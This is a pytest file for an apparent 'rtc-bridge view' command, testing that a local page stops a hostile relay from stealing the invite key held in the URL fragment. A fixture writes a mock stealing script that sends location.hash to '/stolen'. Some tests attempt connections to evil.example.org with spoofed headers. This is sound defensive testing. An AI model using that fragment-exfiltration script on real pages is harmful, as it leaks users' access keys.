# Copyright 2026 The rtc_bridge authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""``rtc-bridge view``: a robot at a relay whose page steals, seen through a page of one's own."""

import asyncio
import subprocess
import sys

import pytest
from rtc_bridge.core.access.invite import Invite, invite_text
from rtc_bridge.core.access.invite_url import PageUrl, parse_invite_url, parse_page_url
from rtc_bridge.core.access.policy import AccessPolicy
from rtc_bridge.core.errors import ProtocolError, REFUSED
from rtc_bridge.peer.local_robot_link import LocalRobotLink
from rtc_bridge.relay.app import create_app
from rtc_bridge.relay.directory.registry import Registry
from rtc_bridge.relay.http.server import serve
from rtc_bridge.system.files.key_store import KeyStore
from support.browsers import Loop, PATIENCE, until
from support.processes import Process
from support.relay_server import serve_app
from support.viewer import make_sessions, TestCamera

INVITE = invite_text(b's' * 32, Invite('bot', 'x', 'drive', 'Ada', 0, 4_000_000_000))
KEY = INVITE.rpartition('.')[2]
# All that our page loads, taken for a theft.
HOSTILE = "window.hostile = true; fetch('/stolen?' + location.hash.slice(1));"


@pytest.mark.parametrize('text, socket, polling', [
    ('https://relay.example.org/bot', 'wss://relay.example.org/bot',
     'https://relay.example.org/signaling/bot/'),
    ('http://192.0.2.7:8080/fleet/bot', 'ws://192.0.2.7:8080/fleet/bot',
     'http://192.0.2.7:8080/fleet/signaling/bot/'),
    ('http://[2001:db8::7]:8080/', 'ws://[2001:db8::7]:8080/ws',
     'http://[2001:db8::7]:8080/signaling/ws/'),
    ('https://relay.example.org', 'wss://relay.example.org/ws',
     'https://relay.example.org/signaling/ws/'),
])
def test_where_a_page_has_its_signaling(text, socket, polling):
    page = parse_page_url(text)
    assert (page.websocket_url, page.polling_url) == (socket, polling)


def test_a_link_is_read():
    link = parse_invite_url(f' https://r.example.org/bot?camera=front&slots=1#{INVITE}\n')
    assert link.page == PageUrl('https://r.example.org/bot', 'camera=front&slots=1')
    assert (link.invite.robot_id, link.invite.role, link.fragment) == ('bot', 'drive', INVITE)
    assert KEY not in repr(link)


BAD = [
    ('bot', "'bot' begins with neither http"),
    ('ftp://host/bot', 'begins with neither http'),
    ('https:///bot', "host and port: ''"),
    ('https://ho st/bot', "host and port: 'ho st'"),
    ('https://host:0/bot', "host and port: 'host:0'"),
    ('https://host:70000/bot', 'wrong port'),
    ('https://[::1/bot', 'wrong port or host'),
    ('https://ada:geheim@host/bot', "'host' has a user name or password"),
    ('https://host/../bot', "path: '/../bot'"),
    ('https://host/two words', "path: '/two words'"),
    ('https://host/bot;x', "path: '/bot;x'"),
    ('https://host/bot?a="b"', 'query: \'a="b"\''),
]


@pytest.mark.parametrize('text, fault', BAD)
def test_the_wrong_part_of_a_link_is_named(text, fault):
    with pytest.raises(ProtocolError) as refused:
        parse_invite_url(f'{text}#{INVITE}')
    assert fault in str(refused.value)
    assert KEY not in str(refused.value) and 'geheim' not in str(refused.value)


@pytest.mark.parametrize('fragment, fault', [
    ('', 'no invite behind a #'), ('#', 'no invite behind a #'), ('#x', 'v1.payload.key'),
    (f'#{INVITE[:-1]}', 'v1.payload.key'), (f'#{INVITE[:-8]}', 'v1.payload.key'),
    (f'#{INVITE}#', 'v1.payload.key'), (f'#v1.AAAA.{KEY}', 'not JSON'),
    ('#' + invite_text(b's' * 32, Invite('b', 'x', 'root', '', 0, 1)), "role is 'root'"),
    ('#' + invite_text(b's' * 32, Invite('b', 'x', 'view', '', 0, 10 ** 30)), 'which is no time'),
])
def test_a_damaged_invite_is_named_without_its_key(fragment, fault):
    with pytest.raises(ProtocolError) as refused:
        parse_invite_url(f'https://host/bot{fragment}')
    assert fault in str(refused.value) and KEY[:20] not in str(refused.value)


def test_a_page_s_own_url_has_no_fragment():
    with pytest.raises(ProtocolError, match='has a fragment'):
        parse_page_url('https://host/bot#x')


def view(*arguments):
    return [sys.executable, '-m', 'rtc_bridge.cli', 'view', *arguments]


@pytest.mark.parametrize('arguments, fault', [
    (['https://host/two words#v1.a.b'], "path: '/two words'"),
    (['--port', '65536', 'https://host/bot'], "'65536' is no port"),
    (['-'], 'begins with neither'),
])
def test_bad_arguments_are_refused(arguments, fault):
    done = subprocess.run(view(*arguments), stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, timeout=PATIENCE)
    assert done.returncode == REFUSED
    assert fault in done.stderr and 'Traceback' not in done.stderr and done.stdout == ''


class HostileRelay:
    """A robot at a relay with another page, and every byte that reaches it."""

    def __init__(self, folder, host='127.0.0.1'):
        """Start both."""
        self.host, self.seen = host, b''
        self._loop = Loop()
        page = folder / 'page'
        (page / 'static').mkdir(parents=True)
        for name in ('main.js', 'viewer.js', 'session.js'):
            (page / name).write_text(HOSTILE)
        (page / 'index.html').write_text(
            '<!doctype html><script src="static/main.js"></script>')
        self.store = KeyStore(folder / 'keys')
        self.camera = TestCamera('front', 120)
        self._stop = asyncio.Event()
        ready = self._loop.run(self._future())
        self._done = asyncio.run_coroutine_threadsafe(self._serve(page, ready),
                                                      self._loop.loop)
        self.url = self._loop.run(self._wait(ready))
        self.link = f'{self.url}/robot#' + invite_text(
            self.store.secret, Invite('robot', 'x', 'drive', 'Ada', 0, 4_000_000_000))

    async def _future(self):
        return asyncio.get_running_loop().create_future()

    async def _wait(self, future):
        return await future

    async def _serve(self, page, ready):
        host = self.host
        sessions = make_sessions(self.camera, access=AccessPolicy('robot', store=self.store))
        registry = Registry()
        registry.add('robot', LocalRobotLink(sessions, 'relay'))
        async with serve(create_app(registry, page_dir=page), host, 0) as port:
            async def record(reader, writer):
                inner = await asyncio.open_connection(host, port)
                await asyncio.gather(self._pump(reader, inner[1], True),
                                     self._pump(inner[0], writer, False))
            server = await asyncio.start_server(record, host, 0)
            shown = f'[{host}]' if ':' in host else host
            ready.set_result(f'http://{shown}:{server.sockets[0].getsockname()[1]}')
            await self._stop.wait()
            server.close()
            await sessions.close('test ends')

    async def _pump(self, reader, writer, note):
        try:
            while data := await reader.read(65536):
                self.seen += data if note else b''
                writer.write(data)
                await writer.drain()
        except ConnectionError:
            pass
        writer.close()

    def close(self):
        """End both."""
        self._loop.loop.call_soon_threadsafe(self._stop.set)
        self._done.result(PATIENCE)
        self.camera.stop()
        self._loop.close()


@pytest.fixture
def relay(tmp_path):
    """Run a hostile relay."""
    relay = HostileRelay(tmp_path)
    yield relay
    relay.close()


def test_a_hostile_relay_s_page_steals(chromium, relay):
    """It would, that is: this is what the others are to be seen beside."""
    page = chromium.show(relay.link)
    page.wait('window.hostile')
    key = relay.link.rpartition('.')[2].encode()
    until(lambda: key in relay.seen, 'the key at the relay')
    page.leave()


def test_a_view_of_a_robot_at_a_hostile_relay(chromium, relay):
    with Process(view('--no-browser', relay.link + '\n')) as process:
        local = process.wait_line(r'http://127\.0\.0\.1:\d+/\S+/#v1\.\S+', PATIENCE)[0]
        assert local.partition('#')[2] == relay.link.partition('#')[2]
        process.wait_line("drive 'robot' until 2096")
        page = chromium.show(local)
        page.wait_state('live')
        assert page.evaluate('rtcBridge.hello.role') == 'drive'
        assert page.evaluate('window.hostile') is None
        # Gamepads, and everything else that takes a secure context, are there besides.
        assert page.evaluate('isSecureContext && "getGamepads" in navigator')
        # The signaling's own address, and nothing else of the relay.
        assert b'GET /robot HTTP/1.1\r\n' in relay.seen
        assert relay.seen.count(b' HTTP/1.1\r\n') == 1
        key = relay.link.rpartition('.')[2].encode()
        assert key not in relay.seen
        assert page.errors == []
        for attempt in (f'fetch("{relay.url}/stolen")',
                        f'import("{relay.url}/static/main.js")',
                        f'new Promise((good, bad) => {{ const s = new WebSocket("'
                        f'{relay.url.replace("http", "ws")}/other"); s.onopen = good; '
                        's.onerror = bad; })'):
            assert page.evaluate(f'{attempt}.then(() => "open", () => "closed")') == 'closed'
        assert relay.seen.count(b' HTTP/1.1\r\n') == 1
        # What is shown does not need this program any more.
        assert process.stop() == 0
        page.wait_state('live')
        page.leave()


@pytest.fixture
def relay6(tmp_path):
    """Run a hostile relay at an IPv6 address."""
    relay = HostileRelay(tmp_path, '::1')
    yield relay
    relay.close()


def test_a_view_of_a_robot_at_an_ipv6_address(chromium, relay6):
    """Its policy names one address, though CSP has no form for the relay's own."""
    socket = relay6.url.replace('http', 'ws')
    assert socket.startswith('ws://[::1]:')
    with Process(view('--no-browser', relay6.link + '\n')) as process:
        local = process.wait_line(r'http://127\.0\.0\.1:\d+/\S+/#v1\.\S+', PATIENCE)[0]
        page = chromium.show(local)
        page.wait_state('live')
        assert page.evaluate('rtcBridge.hello.role') == 'drive'
        assert page.errors == []
        assert relay6.seen.count(b'GET /robot HTTP/1.1\r\n') == 1
        assert relay6.link.rpartition('.')[2].encode() not in relay6.seen
        requests = relay6.seen.count(b' HTTP/1.1\r\n')
        # Nothing else is open: not the relay itself, another port here, or another host.
        for url in (f'{socket}/robot', f'{socket}/other', 'ws://127.0.0.1:9/x',
                    'ws://[::1]:9/', 'wss://evil.example.org/',
                    local.partition('#')[0].replace('http', 'ws') + 'other'):
            assert page.evaluate(f"""new Promise((resolve) => {{
                document.addEventListener('securitypolicyviolation',
                                          (event) => resolve(event.blockedURI), {{once: true}});
                const s = new WebSocket("{url}");
                s.onopen = () => resolve("open"); }})""").startswith(url.split('/')[0])
        assert relay6.seen.count(b' HTTP/1.1\r\n') == requests
        assert process.stop() == 0
        page.wait_state('live')
        page.leave()


@pytest.mark.asyncio
async def test_the_way_to_an_ipv6_address_is_for_the_page_alone():
    from aiohttp import ClientSession, web, WSServerHandshakeError
    from rtc_bridge.relay.http import signaling_tunnel
    from rtc_bridge.relay.http.local_page import create_app as create_page

    seen = []

    async def echo(request):
        seen.append(request.headers.get('Origin'))
        if request.path == '/moved':
            raise web.HTTPFound('/bot')
        ws = web.WebSocketResponse(protocols=['rtc-bridge.v1'])
        await ws.prepare(request)
        async for frame in ws:
            if frame.data == 'end':
                break
            await ws.send_str(f'{request.path} {frame.data}')
        return ws

    other = web.Application()
    other.router.add_get('/{path:.*}', echo)
    async with serve_app(other, '::1') as away:
        away = away.replace('::1', '[::1]')
        app = create_page(parse_page_url(f'{away}/bot'), '/secret/')
        async with serve_app(app) as url, ClientSession(url) as http:
            async with http.get('/secret/') as response:
                socket = url.replace('http', 'ws') + '/secret/signaling'
                assert f'connect-src {socket};' in response.headers['Content-Security-Policy']
                assert f'<meta name="signaling" content="{socket}">' in await response.text()
            for headers in ({}, {'Origin': 'https://evil.example.org'}, {'Origin': 'null'},
                            {'Origin': url, 'Host': 'evil.example.org'},
                            {'Origin': 'http://evil.example.org', 'Host': 'evil.example.org'}):
                with pytest.raises(WSServerHandshakeError) as refused:
                    await http.ws_connect('/secret/signaling', headers=headers)
                assert refused.value.status in (403, 421), headers
            for path in ('/signaling', '/secret/signaling/other'):
                with pytest.raises(WSServerHandshakeError):
                    await http.ws_connect(path, headers={'Origin': url})
            assert seen == []
            sockets = []
            for _ in range(signaling_tunnel.MAX_TUNNELS):
                ws = await http.ws_connect('/secret/signaling', headers={'Origin': url},
                                           protocols=['rtc-bridge.v1'])
                assert ws.protocol == 'rtc-bridge.v1'
                await ws.send_str('hello')
                assert await ws.receive_str(timeout=PATIENCE) == '/bot hello'
                sockets.append(ws)
            assert set(seen) == {url}
            with pytest.raises(WSServerHandshakeError) as refused:
                await http.ws_connect('/secret/signaling', headers={'Origin': url})
            assert refused.value.status == 503
            # The end of either is the end of both.
            await sockets[0].send_str('end')
            assert (await sockets[0].receive(timeout=PATIENCE)).data in (1000, None)
        seen.clear()
        app = create_page(parse_page_url(f'{away}/moved'), '/secret/')
        async with serve_app(app) as url, ClientSession(url) as http:
            with pytest.raises(WSServerHandshakeError) as refused:
                await http.ws_connect('/secret/signaling', headers={'Origin': url})
            assert refused.value.status == 502 and seen == [url]


def test_the_browser_is_opened_and_the_port_kept(tmp_path):
    """With a link that other users of the computer do not see."""
    browser, opened = tmp_path / 'browser', tmp_path / 'opened'
    browser.write_text(f'#!/bin/sh\necho "$1" >{opened}.new && mv {opened}.new {opened}\n')
    browser.chmod(0o755)
    link = tmp_path / 'link'
    link.write_text(f'http://127.0.0.1:9/bot?slots=1#{INVITE}\n')
    shell = f'exec {" ".join(view("-"))} <{link}'
    with Process(['sh', '-c', shell], env={'BROWSER': f'{browser} %s'}) as process:
        local = process.wait_line(r'http://127\S+', PATIENCE)[0]
        assert local.endswith(f'/?slots=1#{INVITE}')
        process.wait_line('until 2096')
        until(opened.exists, 'a browser')
        assert opened.read_text().strip() == local
        port = local.split(':')[2].partition('/')[0]
        with Process(view('--no-browser', '--port', port, link.read_text())) as other:
            assert other.wait(PATIENCE) == 1
            assert f'cannot listen on port {port}' in other.text


@pytest.mark.asyncio
async def test_a_guessed_path_shows_nothing():
    from aiohttp import ClientSession
    from rtc_bridge.relay.http.local_page import create_app as create_page

    app = create_page(parse_page_url('https://relay.example.org/bot'), '/secret/')
    async with serve_app(app) as url, ClientSession(url) as http:
        for path in ('/', '/bot', '/static/ui/main.js', '/secret', '/secret/static/../index.html'):
            async with http.get(path) as response:
                assert response.status == 404
        async with http.get('/secret/', headers={'Host': 'evil.example.org'}) as response:
            assert response.status == 421
        async with http.get('/secret/') as response:
            policy = response.headers['Content-Security-Policy']
            assert ('connect-src wss://relay.example.org/bot '
                    'https://relay.example.org/signaling/bot/;') in policy
            assert '<meta name="signaling" content="wss://relay.example.org/bot">' in (
                await response.text())
        async with http.get('/secret/static/ui/main.js') as response:
            assert response.headers['Content-Type'].startswith('text/javascript')
